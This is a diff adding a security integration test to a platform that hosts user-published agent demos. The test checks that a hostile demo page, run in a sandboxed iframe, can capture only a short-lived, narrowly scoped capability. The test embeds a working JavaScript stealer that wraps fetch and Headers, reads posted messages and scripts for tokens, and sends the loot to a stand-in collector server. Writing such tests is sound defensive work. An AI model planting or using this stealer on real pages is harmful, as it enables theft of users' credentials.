@@ -16,14 +16,16 @@ import re
 import time
 import uuid
 
+import flask
 import requests
 from firebase_admin import auth as firebase_auth
 
 from devstack.tokens import mint_token
 from shared.platform import auth, clients, signing
 from shared.platform.config import get_settings
+from tests.fakes.server import serving
 from tests.integration.helpers import sign_up
-from tests.integration.test_demos import WEATHER_API, demo_body
+from tests.integration.test_demos import WEATHER_API, Viewer, chromium, demo_body, needs_chromium
 
 ECHO_AGENT = (
     "async def run(input_dict, tools):\n    return {'outputText': 'ran ' + input_dict['q']}\n"
@@ -392,3 +394,140 @@ def test_a_phone_viewers_capability_dies_with_the_session(stack):
 
     assert ran.status_code == 200, ran.text
     assert run(stack, capability, "echo_phone").status_code == 401
+
+
+# The page an attacker writes: it wraps fetch and Headers, listens to every message,
+# reads its own scripts, starts the call its page is meant to make and, once the
+# embedding window has posted its message, navigates itself to the attacker's
+# collector with everything it saw (navigation is not a
+# `connect-src` fetch: the page's policy does not stop it, so whatever a page holds
+# can leave it).
+STEALING_JS = """
+const loot = [];
+const keep = (value) => loot.push(typeof value === "string" ? value : JSON.stringify(value));
+const NativeHeaders = window.Headers;
+for (const name of ["set", "append"]) {
+  const original = NativeHeaders.prototype[name];
+  NativeHeaders.prototype[name] = function (key, value) {
+    keep(String(value));
+    return original.call(this, key, value);
+  };
+}
+window.Headers = class extends NativeHeaders {
+  constructor(init) { super(init); keep([...this]); }
+};
+const wrapped = window.fetch;
+window.fetch = (input, init = {}) => {
+  keep({url: String(input.url || input), init: JSON.stringify(init)});
+  return wrapped(input, init);
+};
+const posted = new Promise((resolve) =>
+  window.addEventListener("message", (event) => { keep(event.data); resolve(); }));
+for (const script of document.scripts) {
+  keep(script.textContent.match(/(demo|run):[A-Za-z0-9_~.-]+|eyJ[A-Za-z0-9_.-]+/g) || []);
+}
+fetch(`${API_BASE_URL}/rest/SELECTED`, {
+  method: "POST",
+  headers: {"Content-Type": "application/json"},
+  body: JSON.stringify({q: "hi"}),
+});
+await posted;
+location.href = "COLLECTOR/collect?loot=" + encodeURIComponent(JSON.stringify(loot));
+"""
+TOKEN_SHAPED = re.compile(r"(?:demo|run):[A-Za-z0-9_-]+~[A-Za-z0-9_-]+|eyJ[\w-]+\.[\w-]+\.[\w-]*")
+
+
+class Collector:
+    """The attacker's server: keeps what pages send it."""
+
+    def __init__(self) -> None:
+        self.received: list[list[str]] = []
+
+    def app(self) -> flask.Flask:
+        app = flask.Flask("collector")
+
+        @app.get("/collect")
+        def collect() -> str:
+            self.received.append(json.loads(flask.request.args["loot"]))
+            return "thanks"
+
+        return app
+
+
+@needs_chromium
+def test_a_page_that_steals_what_it_is_given_gets_only_a_weak_capability(
+    stack, tmp_path, monkeypatch
+):
+    # A user publishes two agents and a demo that tries to steal from its viewers.
+    author, _ = firebase_user("author")
+    deploy(stack, author, "selected_echo", public=True)
+    deploy(stack, author, "other_echo", public=True)
+    collector = Collector()
+    admin_user = mint_token(f"admin-{uuid.uuid4().hex[:8]}@example.com", admin=True)
+    admin = bearer(admin_user.id_token)
+    lifetime = 60
+    with serving(collector.app()) as collector_url:
+        code = {
+            "html": "<p>stealing</p>",
+            "css": "",
+            "js": STEALING_JS.replace("SELECTED", "selected_echo").replace(
+                "COLLECTOR", collector_url
+            ),
+        }
+        demo_id = demo_selecting(stack, author, "selected_echo")
+        requests.put(
+            stack.url(f"/demos/{demo_id}"),
+            json=demo_body(
+                selectedApis=[{**WEATHER_API, "friendlyName": "selected_echo"}],
+                generatedCode=code,
+            ),
+            headers=author,
+            timeout=10,
+        ).raise_for_status()
+        # An admin opens it, as a web app shows it: the page in a sandboxed srcdoc iframe,
+        # and a freshly minted capability posted in.
+        monkeypatch.setenv("DEMO_CAPABILITY_SECONDS", str(lifetime))
+        get_settings.cache_clear()
+        try:
+            page = requests.get(stack.url(f"/demos/{demo_id}/page"), headers=admin, timeout=10)
+            fresh = capability_of(stack, admin, demo_id)
+        finally:
+            monkeypatch.delenv("DEMO_CAPABILITY_SECONDS")
+            get_settings.cache_clear()
+        viewer = Viewer(page.text, {"type": "series:capability", "capability": fresh})
+        with serving(viewer.app()) as origin:
+            chromium(tmp_path, "--virtual-time-budget=15000", "--dump-dom", f"{origin}/viewer")
+        deadline = time.monotonic() + 20
+        while not collector.received and time.monotonic() < deadline:
+            time.sleep(0.2)
+
+    assert collector.received, "the page never reached its collector"
+    loot = " ".join(collector.received[0])
+    assert "/rest/selected_echo" in loot  # the page made its call
+    stolen = set(TOKEN_SHAPED.findall(loot))
+    assert admin_user.id_token not in loot
+    assert all(token.startswith("demo:") for token in stolen), stolen
+    # What it took: its own capability (from its script and its Authorization header)
+    # and the fresh one posted in; nothing else.
+    assert fresh in stolen and len(stolen) == 2, stolen
+    assert "Bearer demo:" in loot
+    for capability in stolen:
+        refused = {
+            path: requests.request(
+                method, stack.url(path), headers=bearer(capability), json={}, timeout=10
+            ).status_code
+            for method, path in [
+                ("GET", "/users/me"),
+                ("GET", "/admin/users"),
+                ("GET", "/agents"),
+                ("GET", "/data-store/namespaces/default/records/k"),
+                ("POST", "/rest/other_echo"),
+                ("POST", f"/demos/{demo_id}/capability"),
+            ]
+        }
+        assert set(refused.values()) == {401}, refused
+        assert run(stack, capability, "selected_echo").json() == {"outputText": "ran hi"}
+    last = max(claims_of(capability)["e"] for capability in stolen)
+    assert last - time.time() <= lifetime
+    time.sleep(max(0.0, last - time.time()) + 0.5)
+    assert {run(stack, capability, "selected_echo").status_code for capability in stolen} == {401}
